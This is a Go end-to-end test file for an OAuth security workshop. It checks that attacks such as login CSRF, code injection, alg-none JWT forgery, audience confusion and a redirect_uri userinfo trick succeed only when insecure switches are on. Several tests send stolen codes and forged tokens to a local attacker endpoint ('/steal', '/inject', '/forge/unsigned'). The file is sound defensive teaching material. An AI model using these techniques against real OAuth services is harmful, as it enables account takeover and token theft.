package e2e

// The attack lab (workshop/attacks/): for each attack, the real services with its switch on let
// it through, and the defaults stop it. The attacker is the real workshop/attacker binary.
// Attacks 01 and 04 run in Chromium (attacks_browser_test.go); the others over HTTP here.

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/oauth2"
)

// buildAttacker builds workshop/attacker into binDir once.
var buildAttacker = sync.OnceValue(func() error {
	goCmd, err := exec.LookPath("go")
	if err != nil {
		return err
	}
	cmd := exec.Command(goCmd, "build", "-o", filepath.Join(binDir, "attacker"), ".")
	cmd.Dir = filepath.Join("..", "workshop", "attacker")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		return &buildError{err: err, out: string(out)}
	}
	return nil
})

type buildError struct {
	err error
	out string
}

func (e *buildError) Error() string {
	return "go build workshop/attacker: " + e.err.Error() + "\n" + e.out
}

// lab is a stack started with some of the attack lab's switches, and the attacker's site.
type lab struct {
	*stack
	AttackerURL string
	attacker    *process
}

// attackerPlaceholder in an env value is replaced with the attacker's URL (AUTHSERVER_LAB_RESOURCE).
const attackerPlaceholder = "{attacker}"

// startLab starts the three services with env, PrintShop registered as in the lab (its
// callback, and also its bare origin, as many apps registered: harmless with exact matching),
// the legacy implicit client, and the attacker.
func startLab(t *testing.T, env map[string]string) *lab {
	t.Helper()
	if external != nil {
		t.Skip("external stack: the attack lab starts its own services with its switches, and the attacker")
	}
	if err := buildAttacker(); err != nil {
		t.Fatal(err)
	}
	port := freePorts(t, 1)[0]
	l := &lab{AttackerURL: "http://127.0.0.1:" + port}
	withAttacker := map[string]string{}
	for k, v := range env {
		withAttacker[k] = strings.ReplaceAll(v, attackerPlaceholder, l.AttackerURL)
	}
	l.stack = startStack(t, stackOptions{Env: withAttacker, Clients: func(s *stack, clients []client) []client {
		for i := range clients {
			if clients[i].ClientID == "printing" {
				clients[i].RedirectURIs = append(clients[i].RedirectURIs, s.PrintURL)
			}
		}
		return append(clients, client{ClientID: "legacy", Name: "Legacy gallery (implicit flow)",
			RedirectURIs: []string{s.PrintURL + "/legacy", s.PrintURL}, GrantTypes: []string{"implicit"}, Scopes: []string{"photos.read"}})
	}})
	l.attacker = startProcess(t, "attacker", t.TempDir(), map[string]string{
		"ATTACKER_ADDR": "127.0.0.1:" + port, "ATTACKER_PUBLIC_URL": l.AttackerURL,
		"ATTACKER_ACCOUNTS_URL": l.AuthURL, "ATTACKER_PHOTOS_URL": l.PhotosURL, "ATTACKER_PRINTSHOP_URL": l.PrintURL,
	})
	waitHealthy(t, l.attacker, l.AttackerURL+"/healthz", time.Now().Add(healthTimeout))
	return l
}

// claim reads one claim of a JWT without checking it: the test only asks whose token it is.
func claim(t *testing.T, token, name string) any {
	t.Helper()
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		t.Fatalf("%q is not a JWT", token)
	}
	raw, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		t.Fatal(err)
	}
	var claims map[string]any
	if err := json.Unmarshal(raw, &claims); err != nil {
		t.Fatal(err)
	}
	return claims[name]
}

// TestAttack02LoginCSRFRFC9700Section4_7: the attacker's own code, delivered by Alice's browser,
// connects her PrintShop account to the attacker's photos, only with state and PKCE both off.
func TestAttack02LoginCSRFRFC9700Section4_7(t *testing.T) {
	for _, tc := range []struct {
		name       string
		env        map[string]string
		baitPKCE   string // "on" binds the bait code with the attacker's PKCE challenge
		wantLinked bool
	}{
		{"state and PKCE off: Alice is linked to the attacker's photos",
			map[string]string{"PRINTING_INSECURE_SKIP_STATE": "true", "PRINTING_INSECURE_NO_PKCE": "true", "AUTHSERVER_INSECURE_PKCE_OPTIONAL": "true"}, "", true},
		{"state off, PKCE on: PKCE alone stops it (RFC 9700 §4.7.1)",
			map[string]string{"PRINTING_INSECURE_SKIP_STATE": "true"}, "on", false},
		{"defaults: state stops it (RFC 6749 §10.12)", nil, "on", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := startLab(t, tc.env)
			evil := newBrowser(t)
			evil.post(l.AttackerURL+"/bait", url.Values{"pkce": {tc.baitPKCE}})
			if home := evil.get(l.AttackerURL + "/").Body; !strings.Contains(home, `id="bait"`) {
				t.Fatalf("the attacker could not prepare the bait:\n%s", excerpt(home))
			}
			alice := newBrowser(t)
			alice.signInAtPrintShop(l.stack, "alice", "wonderland")
			to := alice.get(l.AttackerURL + "/bait").redirect(t)
			answer := alice.get(to.String())
			conn, ok := printingConnection(t, l.stack, "alice")
			linked := ok && claim(t, conn.AccessToken, "sub") == "bob"
			if linked != tc.wantLinked {
				t.Fatalf("Alice's PrintShop linked to bob's photos: got %v, want %v (the callback answered %d)", linked, tc.wantLinked, answer.Status)
			}
			if !tc.wantLinked && answer.Status != http.StatusBadRequest {
				t.Fatalf("the callback answered %d, want 400", answer.Status)
			}
		})
	}
}

// TestAttack03CodeInjectionRFC9700Section4_5: a code stolen from Alice's answer, injected into
// the attacker's own PrintShop session, gives the attacker Alice's photos only with PKCE off.
func TestAttack03CodeInjectionRFC9700Section4_5(t *testing.T) {
	for _, tc := range []struct {
		name     string
		env      map[string]string
		wantSees bool
	}{
		{"PKCE optional at Accounts and off at PrintShop: the attacker redeems Alice's code",
			map[string]string{"AUTHSERVER_INSECURE_PKCE_OPTIONAL": "true", "PRINTING_INSECURE_NO_PKCE": "true"}, true},
		{"PKCE optional at Accounts, on at PrintShop: refused (RFC 7636 §4.6)",
			map[string]string{"AUTHSERVER_INSECURE_PKCE_OPTIONAL": "true"}, false},
		{"defaults: refused", nil, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := startLab(t, tc.env)
			alice := newBrowser(t)
			alice.signInAtPrintShop(l.stack, "alice", "wonderland")
			start := alice.get(l.PrintURL + "/connect").redirect(t)
			stolen := alice.authorizeAtAccounts(l.stack, start.String(), "alice", "wonderland", "allow").Callback
			// The code leaks (a log, a Referer, a redirect trick) before Alice's browser uses it.
			evil := newBrowser(t)
			evil.get(l.AttackerURL + "/steal?" + stolen.RawQuery)
			evil.signInAtPrintShop(l.stack, "bob", "builder")
			own := evil.get(l.PrintURL + "/connect").redirect(t)
			inject := evil.get(l.AttackerURL + "/inject?state=" + url.QueryEscape(own.Query().Get("state"))).redirect(t)
			answer := evil.get(inject.String())
			conn, ok := printingConnection(t, l.stack, "bob")
			sees := ok && claim(t, conn.AccessToken, "sub") == "alice"
			if sees != tc.wantSees {
				t.Fatalf("bob's PrintShop holds Alice's token: got %v, want %v (the callback answered %d)", sees, tc.wantSees, answer.Status)
			}
			if !tc.wantSees && answer.Status != http.StatusBadRequest {
				t.Fatalf("the injected callback answered %d, want 400", answer.Status)
			}
		})
	}
}

// TestAttack05UnsignedTokenRFC8725Section3_1: a token the attacker wrote, with alg none, opens
// Alice's photos only with the switch on.
func TestAttack05UnsignedTokenRFC8725Section3_1(t *testing.T) {
	for _, tc := range []struct {
		name string
		env  map[string]string
		want string
	}{
		{"PHOTOS_INSECURE_ACCEPT_ALG_NONE: accepted", map[string]string{"PHOTOS_INSECURE_ACCEPT_ALG_NONE": "true"}, "ACCEPTED (200)"},
		{"defaults: refused", nil, "refused (401)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := startLab(t, tc.env)
			evil := newBrowser(t)
			evil.post(l.AttackerURL+"/forge/unsigned", url.Values{"sub": {"alice"}})
			if home := evil.get(l.AttackerURL + "/").Body; !strings.Contains(home, tc.want) {
				t.Fatalf("Photos' answer to the unsigned token is not %q:\n%s", tc.want, excerpt(home))
			}
		})
	}
}

// TestAttack06AudienceConfusionRFC9068Section4: a token Accounts issued for the attacker's own
// API (RFC 8707 resource), replayed by the attacker at Photos, opens Alice's photos only with
// the audience check off.
func TestAttack06AudienceConfusionRFC9068Section4(t *testing.T) {
	for _, tc := range []struct {
		name string
		env  map[string]string
		want string
	}{
		{"PHOTOS_INSECURE_SKIP_AUDIENCE: accepted",
			map[string]string{"AUTHSERVER_LAB_RESOURCE": attackerPlaceholder, "PHOTOS_INSECURE_SKIP_AUDIENCE": "true"}, "ACCEPTED (200)"},
		{"Photos' defaults: refused", map[string]string{"AUTHSERVER_LAB_RESOURCE": attackerPlaceholder}, "refused (401)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := startLab(t, tc.env)
			token := resourceToken(t, l.stack, l.AttackerURL)
			if aud := claim(t, token, "aud"); aud != l.AttackerURL && !(isList(aud) && aud.([]any)[0] == l.AttackerURL) {
				t.Fatalf("the token's aud is %v, want the attacker's %s (RFC 8707 §2.2)", aud, l.AttackerURL)
			}
			req, _ := http.NewRequest(http.MethodGet, l.AttackerURL+"/api/hello", nil)
			req.Header.Set("Authorization", "Bearer "+token)
			resp, err := (&http.Client{Timeout: 30 * time.Second}).Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			body, _ := io.ReadAll(resp.Body)
			if !strings.Contains(string(body), tc.want) {
				t.Fatalf("the attacker's replay at Photos: got %s, want %q", body, tc.want)
			}
		})
	}
}

func isList(v any) bool { _, ok := v.([]any); return ok }

// resourceToken gets Alice's token from Accounts for the e2e client, asking at the token
// endpoint for the given resource (RFC 8707 §2.2).
func resourceToken(t *testing.T, s *stack, resource string) string {
	t.Helper()
	conf := &oauth2.Config{ClientID: "e2e-client", ClientSecret: s.TestClientSecret, RedirectURL: testClientRedirect,
		Scopes: []string{"photos.read"}, Endpoint: oauth2.Endpoint{AuthURL: s.AuthURL + "/authorize", TokenURL: s.AuthURL + "/token",
			AuthStyle: oauth2.AuthStyleInHeader}}
	verifier := oauth2.GenerateVerifier()
	auth := newBrowser(t).authorizeAtAccounts(s, conf.AuthCodeURL(randomString(), oauth2.S256ChallengeOption(verifier)), "alice", "wonderland", "allow")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	tok, err := conf.Exchange(ctx, auth.Callback.Query().Get("code"), oauth2.VerifierOption(verifier),
		oauth2.SetAuthURLParam("resource", resource))
	if err != nil {
		t.Fatal(err)
	}
	return tok.AccessToken
}

// TestAttackLabDefaultsAreSafe: services started with no switch have none of the six
// weaknesses, show no banner, and log no INSECURE line.
func TestAttackLabDefaultsAreSafe(t *testing.T) {
	l := startLab(t, nil)
	b := newBrowser(t)
	// 01: the userinfo trick is refused with a page, before any sign-in (RFC 9700 §2.1).
	trap := url.Values{"response_type": {"code"}, "client_id": {"printing"}, "scope": {"photos.read"}, "state": {"s"},
		"redirect_uri":   {l.PrintURL + "@" + strings.TrimPrefix(l.AttackerURL, "http://") + "/steal"},
		"code_challenge": {"E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"}, "code_challenge_method": {"S256"}}
	if p := b.get(l.AuthURL + "/authorize?" + trap.Encode()); p.Status != http.StatusBadRequest {
		t.Errorf("01: the userinfo trick got %d, want 400", p.Status)
	}
	// 02 and 03: no code without PKCE (RFC 9700 §2.1.1), PrintShop sends PKCE, and checks state.
	noPKCE := url.Values{"response_type": {"code"}, "client_id": {"printing"}, "scope": {"photos.read"}, "state": {"s"},
		"redirect_uri": {l.PrintURL + "/callback"}}
	if to := b.get(l.AuthURL + "/authorize?" + noPKCE.Encode()).redirect(t); to.Query().Get("error") != "invalid_request" {
		t.Errorf("03: a request without code_challenge was answered %s, want error=invalid_request", to)
	}
	b.signInAtPrintShop(l.stack, "alice", "wonderland")
	if start := b.get(l.PrintURL + "/connect").redirect(t); start.Query().Get("code_challenge_method") != "S256" {
		t.Errorf("03: PrintShop's authorization request %s has no PKCE", start)
	}
	forged := url.Values{"code": {"x"}, "state": {"not-ours"}, "iss": {l.AuthURL}}
	if p := b.get(l.PrintURL + "/callback?" + forged.Encode()); p.Status != http.StatusBadRequest {
		t.Errorf("02: a callback with a foreign state got %d, want 400", p.Status)
	}
	// 04: no implicit flow (RFC 9700 §2.1.2).
	implicit := url.Values{"response_type": {"token"}, "client_id": {"legacy"}, "scope": {"photos.read"}, "redirect_uri": {l.PrintURL + "/legacy"}}
	if to := b.get(l.AuthURL + "/authorize?" + implicit.Encode()).redirect(t); to.Query().Get("error") != "unsupported_response_type" {
		t.Errorf("04: response_type=token was answered %s, want error=unsupported_response_type", to)
	}
	// 05: alg none is refused (RFC 8725 §3.1).
	b.post(l.AttackerURL+"/forge/unsigned", url.Values{"sub": {"alice"}})
	if home := b.get(l.AttackerURL + "/").Body; !strings.Contains(home, "refused (401)") {
		t.Errorf("05: the unsigned token was not refused:\n%s", excerpt(home))
	}
	// 06: Accounts has no second audience: resource is ignored, and the token is for Photos.
	if aud := claim(t, resourceToken(t, l.stack, l.AttackerURL), "aud"); aud != l.PhotosURL {
		t.Errorf("06: with no lab resource, aud is %v, want %s", aud, l.PhotosURL)
	}
	// No banner on any service's pages, no INSECURE line in any log.
	for _, base := range []string{l.AuthURL, l.PhotosURL, l.PrintURL} {
		if p := b.get(base + "/"); strings.Contains(p.Body, "INSECURE") {
			t.Errorf("%s/ shows an INSECURE banner with no switch on", base)
		}
	}
	for _, p := range l.procs {
		if out := p.output.String(); strings.Contains(out, "INSECURE") {
			t.Errorf("%s logged an INSECURE line with no switch on:\n%s", p.name, excerpt(out))
		}
	}
}

// TestAttackLabSwitchesWarnAndShowBanner: with every switch on, each service logs a WARN line
// naming each of its switches, and shows a red banner naming it.
func TestAttackLabSwitchesWarnAndShowBanner(t *testing.T) {
	switches := map[string]string{
		"AUTHSERVER_INSECURE_REDIRECT_MATCH": "prefix", "AUTHSERVER_INSECURE_PKCE_OPTIONAL": "true",
		"AUTHSERVER_ENABLE_IMPLICIT": "true", "PRINTING_INSECURE_SKIP_STATE": "true", "PRINTING_INSECURE_NO_PKCE": "true",
		"PHOTOS_INSECURE_ACCEPT_ALG_NONE": "true", "PHOTOS_INSECURE_SKIP_AUDIENCE": "true",
	}
	l := startLab(t, switches)
	b := newBrowser(t)
	home := map[string]string{"authserver": l.AuthURL, "photos": l.PhotosURL, "printing": l.PrintURL}
	for _, p := range l.procs {
		page := b.get(home[p.name] + "/").Body
		log := p.output.String()
		for name := range switches {
			if !strings.HasPrefix(name, strings.ToUpper(p.name)+"_") {
				continue
			}
			if !strings.Contains(log, "level=WARN") || !strings.Contains(log, "INSECURE: "+name) {
				t.Errorf("%s logged no WARN line naming %s", p.name, name)
			}
			if !strings.Contains(page, `class="insecure"`) || !strings.Contains(page, "INSECURE: "+name) {
				t.Errorf("%s's home page has no red banner naming %s", p.name, name)
			}
		}
	}
}
